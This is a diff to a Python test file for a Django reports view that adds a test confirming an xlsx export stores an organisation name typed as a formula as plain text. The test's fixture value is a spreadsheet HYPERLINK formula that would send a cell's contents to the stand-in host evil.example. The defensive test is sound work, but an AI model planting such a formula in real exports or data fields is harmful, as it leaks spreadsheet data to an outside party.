@@ -143,6 +143,23 @@ def test_xlsx_has_the_tables(client_for: Any, dataset: Any) -> None:
     assert "Tilbud afvist: afvist af borgeren og afvist af kommunen" in titles
 
 
+def test_xlsx_keeps_a_name_typed_as_a_formula_as_text(
+    client_for: Any, dataset: Any, org_a: Any
+) -> None:
+    """An organisation's name comes from its own stock file; the workbook holds it as text."""
+    from openpyxl import load_workbook
+
+    org_a.name = '=HYPERLINK("http://evil.example/?x="&A3,"Alfa")'
+    org_a.save()
+    response = client_for("anvisningsleder").get(
+        reverse("reports:report_download", args=["xlsx"]) + f"?kvartal={QUARTER}"
+    )
+    wb = load_workbook(io.BytesIO(response.content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == "'" + org_a.name for c in cells)
+
+
 def test_unknown_format_is_404(client_for: Any) -> None:
     url = reverse("reports:report_download", args=["doc"])
     assert client_for("anvisningsleder").get(url).status_code == 404
